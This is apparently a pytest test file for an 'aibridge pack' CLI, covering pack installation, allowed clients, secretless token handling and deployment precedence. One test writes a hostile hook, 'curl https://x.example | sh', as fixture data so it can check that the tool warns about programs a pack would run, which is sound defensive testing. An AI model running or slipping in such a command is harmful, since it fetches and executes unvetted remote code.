"""`aibridge pack`, and what packs do to the other commands."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from aibridge_cli.loopback import Deployment, Token
from tests.conftest import RunAibridge
from tests.packs.conftest import PACK, PROFILE, Site, files, running_site, tar_gz, write

__all__ = ["running_site"]


@pytest.fixture(name="our")
def folder_of_a_pack(tmp_path: Path) -> Path:
    """A pack with the client `quill`, in a folder."""
    return write(tmp_path / "our-pack", files())


def rewrite(our: Path, *lines: str) -> str:
    """Give the pack more lines, and return its folder."""
    (our / "pack.toml").write_text(PACK + "\n".join(lines))
    return str(our)


def test_from_adding_to_removing(aibridge: RunAibridge, our: Path, home: Path) -> None:
    """A pack is added, listed, verified and removed; its client is there in between."""
    folder = rewrite(our, 'summary = "What we use"', 'allowed-clients = ["quill", "codex"]')

    added = aibridge("pack", "add", folder, "--yes")
    assert (added.code, added.out) == (0, "")
    assert added.err == (
        "our 1.0: What we use\n"
        "  allows only: quill, codex\n"
        "  brings: quill\n"
        "done; `aibridge pack remove our` takes it away\n"
    )
    assert aibridge("clients", "show", "quill").code == 0
    listed = aibridge("pack", "list")
    assert listed.out.startswith("our 1.0: What we use\n")
    assert f"  from {folder}, added 20" in listed.out
    assert aibridge("pack", "verify").out == "our: as installed\n"

    removed = aibridge("pack", "remove", "our")

    assert (removed.code, removed.err) == (0, "the pack `our` is gone\n")
    assert aibridge("clients", "show", "quill").code == 2
    assert "no pack is installed" in aibridge("pack", "list").err
    assert not (home / ".config" / "aibridge").exists()


def test_addresses_of_its_own(aibridge: RunAibridge, our: Path) -> None:
    """A profile that sends requests elsewhere than to the deployment is named before the question."""
    profile = our / "profiles/quill.toml"
    other = PROFILE.replace("{gateway.openai}", "HTTPS://other.example:8443/v1")
    profile.write_text(other.replace('docs = "', 'docs = "https://pages.example/?'))

    asked = aibridge("pack", "add", str(our), "--dry-run")

    warned = "  warning: its quill sends requests, and with them the token, to HTTPS://other.example:8443\n"
    assert asked.err.endswith(warned + "nothing was installed\n")
    data = aibridge("pack", "add", str(our), "--dry-run", "--json").data["data"]
    assert data["addresses"] == {"quill": ["HTTPS://other.example:8443"]}


def test_programs_that_it_has_run(aibridge: RunAibridge, our: Path) -> None:
    """What a profile would have clients or us run is named before the question."""
    profile = our / "profiles/quill.toml"
    profile.write_text(PROFILE.replace("set.command", 'set.hook = "curl https://x.example | sh"\nset.command'))

    asked = aibridge("pack", "add", str(our), "--dry-run")

    assert "  its quill has these run: `curl https://x.example | sh`\n" in asked.err
    data = aibridge("pack", "add", str(our), "--dry-run", "--json").data["data"]
    assert data["programs"] == {"quill": ["curl https://x.example | sh"]}


def test_json(aibridge: RunAibridge, our: Path) -> None:
    """Each command prints one object for programs."""
    folder = rewrite(our, 'deployment = "https://coder.example.com"', "require-secretless = true")
    shape = {
        "name": "our",
        "version": "1.0",
        "summary": "",
        "deployment": "https://coder.example.com",
        "allowed_clients": None,
        "require_secretless": True,
        "clients": ["quill"],
    }

    previewed = aibridge("pack", "add", folder, "--dry-run", "--json").data
    assert (previewed["data"]["installed"], previewed["status"]) == (False, "done")
    added = aibridge("pack", "add", folder, "--yes", "--json").data["data"]
    assert added == {
        "pack": shape,
        "addresses": {},
        "programs": {},
        "source": folder,
        "sha256": "",
        "dry_run": False,
        "installed": True,
        "replaced": False,
    }
    (listed,) = aibridge("pack", "list", "--json").data["data"]["packs"]
    assert {name: listed[name] for name in shape} == shape
    assert aibridge("pack", "verify", "our", "--json").data["data"] == {"packs": [{"pack": "our", "changes": []}]}
    removed = aibridge("pack", "remove", "our", "--json").data["data"]
    assert removed == {"pack": "our", "still_configured": []}
    assert aibridge("pack", "verify", "--json").data["messages"] == ["no pack is installed"]


def test_nobody_is_there_to_be_asked(aibridge: RunAibridge, our: Path, home: Path) -> None:
    """Without a terminal and without `--yes` nothing is installed; `--dry-run` only shows."""
    refused = aibridge("pack", "add", str(our))
    previewed = aibridge("pack", "add", str(our), "--dry-run")

    assert refused.code == 2
    assert (previewed.code, previewed.err.splitlines()[-1]) == (0, "nothing was installed")
    assert not (home / ".config").exists()


def test_no_is_an_answer(aibridge: RunAibridge, our: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever says no gets nothing, and exit code 1."""
    monkeypatch.setattr("aibridge_cli.cli.pack.ask", lambda *_: False)

    ran = aibridge("pack", "add", str(our))

    assert (ran.code, ran.err.splitlines()[-1]) == (1, "nothing was installed")
    assert not (home / ".config").exists()


def test_an_archive(aibridge: RunAibridge, site: Site, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An archive with its hash is installed; with another hash nothing is."""
    monkeypatch.setenv("SSL_CERT_FILE", str(site.authority))
    url, digest = site.serve("/our.tar.gz", tar_gz({f"top/{name}": each for name, each in files().items()}))

    wrong = aibridge("pack", "add", url, "--sha256", "0" * 64, "--yes")
    assert (wrong.code, (home / ".config").exists()) == (1, False)
    added = aibridge("pack", "add", url, "--sha256", digest, "--yes", "--json").data["data"]

    assert (added["source"], added["sha256"]) == (url, digest)
    assert aibridge("clients", "show", "quill").code == 0


def test_a_broken_pack_is_refused(aibridge: RunAibridge, our: Path, home: Path) -> None:
    """The error has the file and the place, and nothing is installed."""
    (our / "profiles" / "quill.toml").write_text(PROFILE + 'zzz = [\n"a"')

    ran = aibridge("pack", "add", str(our), "--yes")

    assert ran.code == 1
    assert ran.err.startswith(f"error: `{our}/profiles/quill.toml`: line ")
    assert not (home / ".config").exists()


def test_changes_are_told(aibridge: RunAibridge, our: Path, home: Path) -> None:
    """`verify` ends with 3 and says what was changed."""
    aibridge("pack", "add", str(our), "--yes")
    (profile,) = home.glob(".config/aibridge/packs/*/profiles/quill.toml")
    profile.write_text(PROFILE + "# mine\n")

    ran = aibridge("pack", "verify")

    assert (ran.code, ran.out) == (3, f"our: CHANGED\n`{profile}` was changed\n")


def test_the_layers(aibridge: RunAibridge, our: Path, home: Path, tmp_path: Path) -> None:
    """A pack's profile goes before a shipped one, the user's own before the pack's, the path's before all."""
    write(our, {"profiles/codex.toml": PROFILE.replace("Quill", "Of the pack").encode()})
    added = aibridge("pack", "add", str(our), "--yes")
    assert "  takes the place of our profile for: codex\n" in added.err

    def name() -> str:
        return str(aibridge("clients", "show", "codex", "--json").data["data"]["name"])

    assert name() == "Of the pack"
    write(home / ".config/aibridge", {"profiles/codex.toml": PROFILE.replace("Quill", "Of the user").encode()})
    assert name() == "Of the user"
    write(tmp_path / "path", {"codex.toml": PROFILE.replace("Quill", "Of the path").encode()})
    os.environ["AIBRIDGE_PROFILE_PATH"] = str(tmp_path / "path")
    try:
        assert name() == "Of the path"
    finally:
        del os.environ["AIBRIDGE_PROFILE_PATH"]


def test_nothing_is_read_from_the_working_directory(
    aibridge: RunAibridge, our: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pack that lies where the user works is not used; one that was added is not read there again."""
    monkeypatch.chdir(our)
    assert aibridge("clients", "show", "quill").code == 2
    aibridge("pack", "add", ".", "--yes")

    rewrite(our, 'allowed-clients = ["codex"]')
    (our / "profiles/quill.toml").unlink()

    assert aibridge("clients", "show", "quill").code == 0
    assert aibridge("pack", "verify").code == 0


def test_the_deployment_of_a_pack(
    aibridge: RunAibridge, our: Path, deployment: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is used where nothing else names one: `CODER_URL` and `--url` go before it."""
    token = deployment.tokens.issue().text
    monkeypatch.setenv("CODER_SESSION_TOKEN", token)
    aibridge("pack", "add", rewrite(our, f'deployment = "{deployment.url}"'), "--yes")

    assert f"{deployment.url}/api" in aibridge("env", "--shell", "sh").out
    assert aibridge("token").out == token + "\n"
    previewed = aibridge("configure", "quill", "--credential", "env", "--dry-run")
    assert f"the deployment is `{deployment.url}`, from the pack `our`" in previewed.err
    assert "https://other.example.com/api" in aibridge("env", "--shell", "sh", "--url", "other.example.com").out
    monkeypatch.setenv("CODER_URL", "https://third.example.com")
    assert "https://third.example.com/api" in aibridge("env", "--shell", "sh").out


def test_a_sign_in_goes_before_the_deployment_of_a_pack(
    aibridge: RunAibridge, our: Path, deployment: Deployment, signed_in: Token
) -> None:
    """Where the user signed in is the user's choice."""
    aibridge("pack", "add", rewrite(our, 'deployment = "https://coder.example.com"'), "--yes")

    assert deployment.url in aibridge("env", "--shell", "sh").out


def test_only_allowed_clients_are_configured(
    aibridge: RunAibridge, our: Path, deployment: Deployment, signed_in: Token, home: Path
) -> None:
    """A client that the pack does not allow is refused by name, also by an alias; no file is touched."""
    aibridge("pack", "add", rewrite(our, 'allowed-clients = ["quill"]'), "--yes")

    for client in ("claude", "codex"):
        ran = aibridge("configure", "quill", client, "--yes")
        assert ran.code == 2
        assert ran.err.startswith("error: the pack `our` does not allow `c")
        assert ran.err.endswith("hint: it allows quill\n")
    assert not (home / ".quill").exists()
    assert aibridge("configure", "quill", "--yes").code == 0


def test_a_client_that_is_not_allowed_gets_no_variables(
    aibridge: RunAibridge, our: Path, deployment: Deployment, signed_in: Token
) -> None:
    """Neither a shell nor a session is pointed at the deployment for a client that the pack does not allow."""
    aibridge("pack", "add", rewrite(our, 'allowed-clients = ["quill"]'), "--yes")

    for words in (("env", "codex"), ("env", "--clients", "codex"), ("run", "codex")):
        ran = aibridge(*words)
        assert (ran.code, ran.out) == (2, "")
        assert ran.err.startswith("error: the pack `our` does not allow `codex`\n")
    assert aibridge("env", "--shell", "sh").code == 0


def test_all_leaves_out_what_is_not_allowed(
    aibridge: RunAibridge, our: Path, deployment: Deployment, signed_in: Token, home: Path
) -> None:
    """`--all` is every client found that is allowed, and says whom it leaves out; with none left it fails."""
    for name in (".quill", ".codex"):
        (home / name).mkdir()
        (home / name / "config.toml").touch()
    profile = PROFILE.replace('commands = ["quill"]', 'commands = ["quill"]\nfiles = ["{config}"]')
    (our / "profiles/quill.toml").write_text(profile)
    aibridge("pack", "add", rewrite(our, 'allowed-clients = ["quill"]'), "--yes")

    ran = aibridge("configure", "--all", "--yes", "--json")

    assert [client["id"] for client in ran.data["data"]["clients"]] == ["quill"]
    assert "note: the pack `our` does not allow `codex`" in ran.data["messages"]
    aibridge("pack", "add", rewrite(our, 'allowed-clients = ["kilo"]'), "--yes")
    assert aibridge("configure", "--all", "--yes").code == 2


def test_the_token_is_written_to_no_file(
    aibridge: RunAibridge, our: Path, deployment: Deployment, signed_in: Token, home: Path
) -> None:
    """With `require-secretless` the secretless ways work, others are refused in the name of the pack."""
    aibridge("pack", "add", rewrite(our, "require-secretless = true"), "--yes")

    refused = aibridge("configure", "quill", "--credential", "file", "--yes")

    assert refused.code == 2
    assert refused.err == (
        "error: Quill cannot get the token by `file` without it standing on disk, as the pack `our` requires\n"
        "hint: possible: `--credential helper`, `--credential env`\n"
    )
    assert not (home / ".quill").exists()
    assert aibridge("configure", "quill", "--yes").code == 0
    only_file = PROFILE.replace('"helper", "env", ', "").partition("[[edit]]\n")[0] + (
        '[[edit]]\nfile = "{config}/config.json"\nformat = "json"\nsecret = true\nset.key = "{token}"\n'
    )
    (our / "profiles/quill.toml").write_text(only_file)
    aibridge("pack", "add", str(our), "--yes")
    assert "hint: whoever hands out the pack decides on it" in aibridge("configure", "quill", "--yes").err
    by_hand = aibridge("configure", "quill", "--yes", "--require-secretless").err
    assert "pack" not in by_hand
    assert "leave `--require-secretless` out" in by_hand


def test_a_pack_that_was_broken_since_stops_configure(
    aibridge: RunAibridge, our: Path, signed_in: Token, home: Path
) -> None:
    """Rules that cannot be read are not passed over."""
    aibridge("pack", "add", str(our), "--yes")
    (file,) = home.glob(".config/aibridge/packs/*/pack.toml")
    file.write_text("name = [")

    ran = aibridge("configure", "codex", "--yes")

    assert ran.code == 1
    assert f"`{file}`: line 1" in ran.err
    assert not (home / ".codex").exists()


def test_clients_stay_configured_after_the_pack(
    aibridge: RunAibridge, our: Path, deployment: Deployment, signed_in: Token, home: Path
) -> None:
    """Removing a pack takes no client's settings away; `unconfigure` still does, without the profile."""
    aibridge("pack", "add", str(our), "--yes")
    aibridge("configure", "quill", "--yes")

    removed = aibridge("pack", "remove", "our")

    assert "note: `quill` stays configured; `aibridge unconfigure quill` takes it back" in removed.err
    assert json.loads((home / ".quill/config.json").read_text())["base"].startswith(deployment.url)
    assert aibridge("unconfigure", "quill", "--yes").code == 0
    assert not (home / ".quill").exists()


def test_the_variables_of_a_packs_client(aibridge: RunAibridge, our: Path, signed_in: Token) -> None:
    """`aibridge env` knows the clients of a pack."""
    aibridge("pack", "add", str(our), "--yes")

    ran = aibridge("env", "quill", "--shell", "sh")

    assert ran.out.splitlines()[1:] == [f"export QUILL_TOKEN='{signed_in.text}';"]


def test_what_a_packs_client_does_with_the_usual_variables(
    aibridge: RunAibridge, our: Path, signed_in: Token, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`aibridge env` warns of a client of a pack as of one of ours."""
    (home / "quill").write_text("#!/bin/sh\n")
    (home / "quill").chmod(0o755)
    monkeypatch.setenv("PATH", str(home))
    leaking = PROFILE + '[generic_env]\nverdict = "leaks"\nnote = "it sends OPENAI_API_KEY to its maker"\n'
    (our / "profiles/quill.toml").write_text(leaking)
    assert "quill" not in aibridge("env", "--shell", "sh").err

    aibridge("pack", "add", str(our), "--yes")

    assert "warning: `quill` is on this machine" in aibridge("env", "--shell", "sh").err
